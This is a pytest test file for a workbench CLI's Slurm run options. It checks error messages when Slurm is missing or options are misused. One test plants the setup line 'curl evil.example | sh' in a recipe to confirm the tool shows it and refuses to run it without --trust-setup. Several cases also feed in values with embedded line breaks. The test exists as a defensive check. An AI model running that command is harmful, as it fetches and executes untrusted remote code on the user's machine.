"""`run --slurm` where it cannot be: no Slurm on the machine, options that mean nothing."""

from __future__ import annotations

from pathlib import Path

import pytest

from workbench.base.paths import Paths
from workbench.cli import main
from workbench.run.directory import list_runs


@pytest.fixture
def no_slurm(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", "")


def last_error(capsys: pytest.CaptureFixture[str]) -> str:
    return capsys.readouterr().err.splitlines()[-1]


@pytest.mark.usefixtures("no_slurm")
def test_a_machine_without_slurm_is_told_of(
    recipe_file: Path, paths: Paths, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["run", "short.yaml", "--slurm", "--partition", "gpu"]) == 1
    said = last_error(capsys)
    assert said.startswith("PATH: this machine has no Slurm: there is no command sbatch.")
    assert "--no-slurm" in said
    assert list_runs(paths) == []


@pytest.mark.usefixtures("no_slurm")
def test_a_section_alone_asks_for_slurm(
    recipe_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    recipe_file.write_text(recipe_file.read_text() + "slurm: {partition: gpu}\n")
    assert main(["run", "short.yaml"]) == 1
    assert "no Slurm" in last_error(capsys)


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (["--partition", "gpu"], "--partition is for a job of Slurm's. Add --slurm"),
        (["--gpus", "2"], "--gpus-per-node is for a job of Slurm's"),
        (["--setup", "true"], "--setup is for a job of Slurm's"),
        (["--no-slurm", "--mem", "1G"], "--mem is for a job of Slurm's"),
        (["--slurm", "--queue"], "Slurm has a queue of its own"),
        (["--slurm", "--device", "cpu"], "--queue, --device and --hosts are for runs without"),
        (["--slurm", "--hosts", "localhost,b"], "and gives hosts and GPUs: leave them out"),
        (["--slurm", "--time", "soon"], "--time: time cannot be 'soon'"),
        (["--slurm", "--nodes", "some"], "--nodes: nodes cannot be 'some'"),
        (["--slurm", "--sbatch", "array=1-9"], "the run sets array itself"),
        (["--slurm", "--sbatch", "Bad Name=1"], "is no option of sbatch"),
        (["--slurm", "--setup", "a\nb"], "--setup: it has a line break"),
        (["--slurm", "--partition", "a\nb"], "--partition: partition has a line break"),
    ],
)
def test_words_that_cannot_be_meant_are_bad_usage(
    words: list[str],
    said: str,
    recipe_file: Path,
    paths: Paths,
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert main(["run", "short.yaml", *words]) == 2
    assert said in last_error(capsys)
    assert list_runs(paths) == []


def test_shell_lines_of_a_recipe_are_shown_before_they_run(
    recipe_file: Path, paths: Paths, capsys: pytest.CaptureFixture[str]
) -> None:
    recipe_file.write_text(recipe_file.read_text() + "slurm: {setup: [curl evil.example | sh]}\n")
    assert main(["run", "short.yaml"]) == 1
    said = last_error(capsys)
    assert "curl evil.example | sh" in said
    assert "--trust-setup" in said
    assert main(["check", "short.yaml"]) == 0
    assert "slurm.setup holds lines of shell" in "".join(capsys.readouterr())
    assert list_runs(paths) == []
